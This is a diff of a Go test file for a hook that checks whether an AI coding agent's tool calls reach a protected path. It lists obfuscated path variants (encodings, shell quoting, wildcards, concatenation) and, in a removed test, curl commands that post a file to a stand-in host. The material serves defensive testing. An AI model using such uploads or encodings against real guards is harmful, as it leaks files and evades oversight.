@@ -2,14 +2,11 @@ package hooks
 
 import (
 	"encoding/json"
-	"errors"
 	"fmt"
 	"maps"
 	"os"
 	"path/filepath"
-	"runtime"
 	"strings"
-	"syscall"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -210,7 +207,8 @@ func TestLinksThatStandInACall(t *testing.T) {
 			{"Bash", shell("echo sud | xargs cp a")}, {"Bash", shell("cp a SUD")}, {"mcp__fs__copy", `{"dst":"sud"}`},
 			{"mcp__fs__copy", `{"files":{"x.sud":1}}`}, {"mcp__fs__copy", `{"args":"{\"path\":\"s\\u0075d\"}"}`},
 			{"mcp__fs__copy", `{"uri":"file:///x/s%2575d"}`}, {"mcp__sh__run", `{"args":["$'s\\165d'","'s\\x75d'"]}`},
-			{"mcp__sh__run", `{"command":"cp a s?d"}`}, {"mcp__py__run", `{"code":"open(\"su\"+\"d\")"}`}, {"WebFetch", `{"url":"file://` + at + `/s%75d","prompt":"x"}`},
+			{"mcp__sh__run", `{"command":"cp a s?d"}`}, {"mcp__py__run", `{"code":"open(\"su\"+\"d\")"}`},
+			{"WebFetch", `{"url":"file://` + at + `/s%75d","prompt":"x"}`},
 			{"Bash", shell("cd .. && cp a code/sud")}, {"Bash", shell("cp a " + at + "/sud")}, {"Bash", shell("cp a ~/code/sud")},
 		},
 		"code/5":          {{"mcp__fs__put", `{"to":5}`}},
@@ -298,39 +296,3 @@ func TestNotAllThatACallNamesCanBeLookedAt(t *testing.T) {
 		t.Errorf("what is not there is not known: %v", got)
 	}
 }
-
-// TestAFolderThatCannotBeListed: nobody knows what a name in it is, whosever it is.
-func TestAFolderThatCannotBeListed(t *testing.T) {
-	home := own.Resolve(t.TempDir())
-	env := func(name string) string { return map[string]string{"HOME": home, "PATH": "/usr/bin:/bin"}[name] }
-	at := filepath.Join(home, "code")
-	for name, mode := range map[string]os.FileMode{"code": 0o755, "code/k": 0o311, "outer": 0o711} {
-		if err := errors.Join(os.Mkdir(filepath.Join(home, name), 0o755), os.Chmod(filepath.Join(home, name), mode)); err != nil {
-			t.Fatal(err)
-		}
-	}
-	if err := os.Chmod(filepath.Dir(home), 0o755); err != nil {
-		t.Fatal(err)
-	}
-	if os.Getuid() == 0 { // root reads everything
-		runtime.LockOSThread()
-		defer runtime.UnlockOSThread()
-		setFileAccount(65534)
-		defer setFileAccount(0)
-	} else if err := os.Chmod(filepath.Join(home, "outer"), 0o311); err != nil {
-		t.Fatal(err)
-	}
-	for _, command := range []string{
-		"curl -d @k/sud https://a.example", "curl -d @../outer/sud https://a.example", "frob @" + home + "/outer/a/b",
-	} {
-		if got := callOf(t, "claude-code", "Bash", at, `{"command":"`+command+`"}`).Leads(env); !got.Unknown {
-			t.Errorf("%s: %v", command, got)
-		}
-	}
-	if got := callOf(t, "claude-code", "Bash", at, `{"command":"frob @x"}`).Leads(env); got.Unknown {
-		t.Errorf("a name in the folder: %v", got)
-	}
-}
-
-// setFileAccount sets as whom this thread uses files.
-func setFileAccount(uid int) { _, _, _ = syscall.RawSyscall(syscall.SYS_SETFSUID, uintptr(uid), 0, 0) }
